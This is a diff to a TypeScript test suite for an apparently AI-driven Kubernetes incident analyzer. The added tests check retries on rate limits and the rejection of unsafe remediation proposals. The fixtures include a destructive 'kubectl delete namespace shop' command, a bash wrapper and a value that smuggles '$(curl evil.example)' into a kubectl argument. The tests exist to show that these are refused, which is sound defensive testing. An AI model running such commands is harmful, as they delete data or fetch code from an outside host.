@@ -78,13 +78,13 @@ afterEach(() => {
   fake.requests.length = 0;
 });
 
-function llm(overrides: { timeoutMs?: number } = {}) {
+function llm(overrides: { timeoutMs?: number; maxRetries?: number } = {}) {
   return createAnthropicClient({
     ANTHROPIC_API_KEY: FAKE_API_KEY,
     ANTHROPIC_BASE_URL: fake.url,
     ANTHROPIC_MODEL: 'claude-sonnet-5-5',
     ANTHROPIC_TIMEOUT_MS: overrides.timeoutMs ?? 10_000,
-    ANTHROPIC_MAX_RETRIES: 0,
+    ANTHROPIC_MAX_RETRIES: overrides.maxRetries ?? 0,
     ANTHROPIC_MAX_TOKENS: 2048,
   });
 }
@@ -159,7 +159,27 @@ describe('Claude analyzer over the real SDK and the fake Anthropic server', () =
     expect(p.actions).toEqual([]);
     expect(p.escalate.required).toBe(true);
     expect(p.error).toMatch(/invalid proposal after one correction/);
+    expect(p.retryable).toBeUndefined(); // bad model output is not retried: it escalates
     expect(fake.requests).toHaveLength(2);
+  });
+
+  it('a reply with no tool_use gets one forced turn; prose again ends the analysis with no action and the error recorded', async () => {
+    fake.script([reply.text('You should delete namespace shop.'), reply.text('I insist: kubectl delete namespace shop')]);
+    const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm() }));
+    expect(fake.requests).toHaveLength(2);
+    expect(fake.requests[1].body.tool_choice).toEqual({ type: 'tool', name: 'propose_remediation' });
+    expect(toolNames(1)).toEqual(['propose_remediation']);
+    expect(p).toMatchObject({ analyzer: 'claude', actions: [], escalate: { required: true } });
+    expect(p.error).toMatch(/did not call propose_remediation on the final turn \(stop_reason end_turn\)/);
+  });
+
+  it('a proposal whose commands are not kubectl, use shell syntax or exceed the bounds is rejected twice: no action', async () => {
+    const hostile = (command: string) => ({ ...VALID, actions: [{ ...VALID.actions[0], command }] });
+    fake.script([reply.toolUse('propose_remediation', hostile('bash -c "kubectl delete ns shop"')), reply.toolUse('propose_remediation', hostile(`kubectl get pods -n shop $(curl evil.example)`))]);
+    const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm() }));
+    expect(p.actions).toEqual([]);
+    expect(p.error).toMatch(/invalid proposal after one correction: actions\.0\.command: must not contain shell syntax/);
+    expect(fake.requests[1].body.messages.at(-1).content[0].content).toMatch(/must be a single kubectl command starting with "kubectl"/);
   });
 
   it('bounds the loop: after LLM_MAX_TOOL_ROUNDS the final turn offers no read tools and forces propose_remediation', async () => {
@@ -186,6 +206,20 @@ describe('Claude analyzer over the real SDK and the fake Anthropic server', () =
     expect(p.actions.map((a) => a.command)).toEqual(['kubectl rollout undo deployment/web -n shop']);
   });
 
+  it('429 with retry-after: the SDK waits and retries (ANTHROPIC_MAX_RETRIES), and the diagnosis goes on', async () => {
+    fake.script([{ status: 429, errorType: 'rate_limit_error', message: 'slow down', headers: { 'retry-after-ms': '100', 'retry-after': '1' } }, reply.toolUse('propose_remediation', VALID)]);
+    const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm({ maxRetries: 2 }) }));
+    expect(fake.requests).toHaveLength(2);
+    expect(p).toMatchObject({ analyzer: 'claude', actions: [{ command: 'kubectl rollout undo deployment/web -n shop' }] });
+  });
+
+  it('429 with the retries used up: the runbook stands in, the reason says rate limited', async () => {
+    fake.script([reply.error(429, 'rate_limit_error', 'slow down')]);
+    const p = await diagnoseIncident(webIncident(), baseDeps(h.reader, { llm: llm() }));
+    expect(p.analyzer).toBe('runbook');
+    expect(p.fallbackReason).toBe('rate_limit: Anthropic API error 429: slow down');
+  });
+
   it('records a timeout as the error when the fallback is off', async () => {
     fake.script([reply.hang()]);
     const deps = baseDeps(h.reader, { llm: llm({ timeoutMs: 300 }) });
@@ -195,6 +229,7 @@ describe('Claude analyzer over the real SDK and the fake Anthropic server', () =
     expect(p.actions).toEqual([]);
     expect(p.escalate.required).toBe(true);
     expect(p.error).toMatch(/^timeout:/);
+    expect(p.retryable).toBe(true);
   });
 
   it('propagates an abort (the queue cancelling the job) instead of falling back', async () => {
